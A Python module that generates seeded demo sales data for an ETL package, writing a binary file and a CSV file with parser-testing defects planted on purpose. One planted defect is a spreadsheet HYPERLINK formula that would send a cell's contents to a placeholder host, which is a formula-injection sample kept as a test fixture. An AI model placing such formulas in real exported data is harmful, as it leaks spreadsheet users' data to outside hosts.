"""Demonstration data: a clean binary file and a dirty CSV file of invented sales.

    python -m etl_batch.demo data --megabytes 20 --seed 1

The same seed gives the same bytes (with the same numpy), so tests and benchmarks build their inputs here too.
"""

from __future__ import annotations

import argparse
import sys
from collections import Counter
from collections.abc import Iterator, Sequence
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any, BinaryIO, Final

import numpy as np
import pyarrow as pa
import pyarrow.csv as arrow_csv

from etl_batch import private, sentences
from etl_batch.errors import EtlError, OutputFailed

RECORD: Final = np.dtype(
    [("id", "<u4"), ("timestamp", "<u8"), ("quantity", "<u4"), ("value", "<i8"), ("product", "S32")]
)
"""The engine's `default` layout, `<IQIq32s`: 56 bytes without padding. `value` is in cents."""

CSV_COLUMNS: Final = ("id", "timestamp", "quantity", "value", "product", "code", "note")
DEFECTS: Final[dict[str, str]] = {
    "missing_field": "a record with one field too few",
    "extra_field": "a record with one field too many",
    "invalid_utf8": "bytes that are no UTF-8",
    "formula": "a cell that a spreadsheet would run",
    "signed_formula": "a formula that begins like a number",
    "quoted_newline": "a line break inside quotes",
    "quoted_comma": "a delimiter and a doubled quote inside quotes",
    "leading_zeros": "a number whose zeros mean something",
    "trailing_zero": "a number with a digit that a float loses",
    "plus_sign": "a number with a sign that a float loses",
    "empty_cell": "a measure without a value",
    "blank_line": "an empty line before the record",
    "carriage_return": "a record that ends in CR LF",
}
"""What `dirt=True` plants in a CSV file, in turn, one defect every `DEFECT_EVERY` rows."""
UNREADABLE: Final = frozenset({"missing_field", "extra_field", "invalid_utf8"})
"""The defects that cost their record; all the others leave it readable."""
DEFECT_EVERY: Final = 50

_BLOCK_ROWS: Final = 1 << 19
_YEAR_START: Final = 1_735_689_600
"""2025-01-01T00:00:00Z."""
_YEAR_SECONDS: Final = 365 * 86_400
_BRANDS: Final = ("Alder", "Bjørk", "Cedar", "Délice", "Ember", "Fjord", "Grove", "Heron", "Iris", "Jasmin")
_KINDS: Final = ("Basic", "Classic", "Compact", "Deluxe", "Eco", "Family", "Mini", "Pro", "Travel", "Ultra")
_THINGS: Final = ("Backpack", "Café", "Chair", "Desk", "Jacket", "Kettle", "Lamp", "Mug", "Teapot", "Tent")
_CHANNELS: Final = ("shop", "web", "phone", "market", "")
_DIRTY_CSV_ROWS: Final = 68_000
_DEMO_PRODUCTS: Final = 100
"""Few enough for a sample of 0.5 % to have rows of each."""


def product_names() -> list[str]:
    """The 1,000 product names, each at most 32 bytes of UTF-8."""
    return [f"{brand} {kind} {thing}" for brand in _BRANDS for kind in _KINDS for thing in _THINGS]


def sales_blocks(records: int, *, seed: int, products: int = 1_000) -> Iterator[np.ndarray[Any, np.dtype[Any]]]:
    """`records` sales as arrays of type `RECORD`, in blocks that keep memory flat.

    Products follow Zipf's law (the k-th has a share of 1/k). Each has a price and a usual quantity of its own, both
    log-normal over the products; a sale is within a tenth of the one, and Poisson about the other. The time stamps run
    once through the year 2025.
    """
    names = np.array([name.encode() for name in product_names()], dtype="S32")
    catalogue = np.random.default_rng([seed, 0])
    names = catalogue.permutation(names)[:products]
    prices = np.exp(catalogue.normal(np.log(2_500), 1.0, len(names)))
    usual = np.exp(catalogue.normal(np.log(4), 0.8, len(names)))
    shares = np.cumsum(1 / np.arange(1, len(names) + 1))
    for number, first in enumerate(range(0, records, _BLOCK_ROWS), start=1):
        rng = np.random.default_rng([seed, number])
        row = np.arange(first, min(first + _BLOCK_ROWS, records), dtype=np.uint64)
        product = np.searchsorted(shares, rng.random(len(row)) * shares[-1], side="right")
        block = np.empty(len(row), RECORD)
        block["id"] = row + 1
        block["timestamp"] = _YEAR_START + row * _YEAR_SECONDS // np.uint64(records)
        block["quantity"] = 1 + rng.poisson(usual[product])
        block["value"] = np.rint(prices[product] * rng.uniform(0.9, 1.1, len(row))) * block["quantity"]
        block["product"] = names[product]
        yield block


def write_sales_binary(path: Path, records: int, *, seed: int = 1, products: int = 1_000) -> int:
    """Write `records` fixed records in the `default` layout, atomically; gives the file's bytes."""
    with _staged(path) as out:
        for block in sales_blocks(records, seed=seed, products=products):
            block.tofile(out)
    return records * RECORD.itemsize


def write_sales_csv(path: Path, rows: int, *, seed: int = 1, dirt: bool = False, products: int = 1_000) -> Counter[str]:
    """Write `rows` sales as CSV (UTF-8, LF, header), atomically; gives how often each defect was planted.

    Every row counts as one record, planted with `dirt` or not; blank lines are not records.
    """
    planted: Counter[str] = Counter()
    with _staged(path) as out:
        out.write(",".join(CSV_COLUMNS).encode() + b"\n")
        for block in sales_blocks(rows, seed=seed, products=products):
            text = _csv_text(block, seed)
            if dirt:
                lines = text.splitlines()
                text = b"".join(_plant(line, int(block["id"][0]) - 1 + at, planted) for at, line in enumerate(lines))
            out.write(text)
    return planted


def write_demo(folder: Path, *, megabytes: float = 20.0, seed: int = 1) -> list[Path]:
    """Write `sales.bin` (of `megabytes`) and `sales_dirty.csv` (about 4 MB) into `folder`."""
    binary, dirty = folder / "sales.bin", folder / "sales_dirty.csv"
    write_sales_binary(
        binary, max(1, int(megabytes * 1_000_000) // RECORD.itemsize), seed=seed, products=_DEMO_PRODUCTS
    )
    write_sales_csv(dirty, _DIRTY_CSV_ROWS, seed=seed, dirt=True, products=_DEMO_PRODUCTS)
    return [binary, dirty]


def is_empty(folder: Path) -> bool:
    """Whether a folder is missing or holds nothing but hidden files."""
    return not folder.is_dir() or all(entry.name.startswith(".") for entry in folder.iterdir())


def _csv_text(block: np.ndarray[Any, np.dtype[Any]], seed: int) -> bytes:
    rng = np.random.default_rng([seed, 1, int(block["id"][0])])
    code = pa.array([f"A{number:04d}" for number in range(10_000)]).take(rng.integers(0, 10_000, len(block)))
    note = pa.array(_CHANNELS).take(rng.integers(0, len(_CHANNELS), len(block)))
    numbers = {name: pa.array(np.ascontiguousarray(block[name])) for name in CSV_COLUMNS[:4]}
    product = pa.array(block["product"].tolist(), pa.binary()).cast(pa.string())
    table = pa.table({**numbers, "product": product, "code": code, "note": note})
    sink = pa.BufferOutputStream()
    arrow_csv.write_csv(table, sink, arrow_csv.WriteOptions(include_header=False, quoting_style="none"))
    text: bytes = sink.getvalue().to_pybytes()
    return text


def _plant(line: bytes, row: int, planted: Counter[str]) -> bytes:
    turn, rest = divmod(row, DEFECT_EVERY)
    if rest != DEFECT_EVERY // 2:
        return line + b"\n"
    defect = list(DEFECTS)[turn % len(DEFECTS)]
    planted[defect] += 1
    return _spoil(line.split(b","), defect)


def _spoil(cells: list[bytes], defect: str) -> bytes:
    """One record with one defect: the last cell is the note, the one before it the code, the third the quantity."""
    notes = {
        "formula": b'"=HYPERLINK(""http://example.invalid/?x=""&A1,""more"")"',
        "signed_formula": b"-2+3",
        "quoted_newline": b'"left at the door\nring twice"',
        "quoted_comma": b'"blue, size 7"" wide"',
        "invalid_utf8": b"caf\xe9 \xff",
    }
    codes = {"leading_zeros": b"007", "trailing_zero": b"1.50", "plus_sign": b"+3"}
    cells[-1] = notes.get(defect, cells[-1])
    cells[-2] = codes.get(defect, cells[-2])
    match defect:
        case "missing_field":
            cells.pop()
        case "extra_field":
            cells.append(b"surplus")
        case "empty_cell":
            cells[2] = b""
    before = b"\n" if defect == "blank_line" else b""
    return before + b",".join(cells) + (b"\r\n" if defect == "carriage_return" else b"\n")


@contextmanager
def _staged(path: Path) -> Iterator[BinaryIO]:
    """A file that takes its name only when it is whole."""
    staged = path.with_name(f".{path.name}.tmp")
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        with staged.open("wb") as out:
            yield out
        staged.replace(path)
    except OSError as error:
        raise OutputFailed(sentences.outputs.CANNOT_WRITE_FOLDER.format(path=path, reason=error.strerror)) from error
    finally:
        with suppress(OSError):
            staged.unlink()


def main(arguments: Sequence[str] | None = None) -> int:
    """The command line; gives the exit code."""
    parser = argparse.ArgumentParser(prog="python -m etl_batch.demo", description=__doc__.partition("\n")[0])
    parser.add_argument("folder", type=Path, help="where sales.bin and sales_dirty.csv are written")
    parser.add_argument("--megabytes", type=float, default=20.0, help="size of sales.bin (default: %(default)s)")
    parser.add_argument("--seed", type=int, default=1, help="another seed gives other sales (default: %(default)s)")
    parser.add_argument("--if-empty", action="store_true", help="write only when the folder holds no file yet")
    options = parser.parse_args(arguments)
    private.begin()
    if options.if_empty and not is_empty(options.folder):
        return 0
    try:
        paths = write_demo(options.folder, megabytes=options.megabytes, seed=options.seed)
    except EtlError as error:
        print(error, file=sys.stderr)
        return error.exit_code
    for path in paths:
        print(f"Demo data: {path} ({path.stat().st_size / 1e6:.1f} MB)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
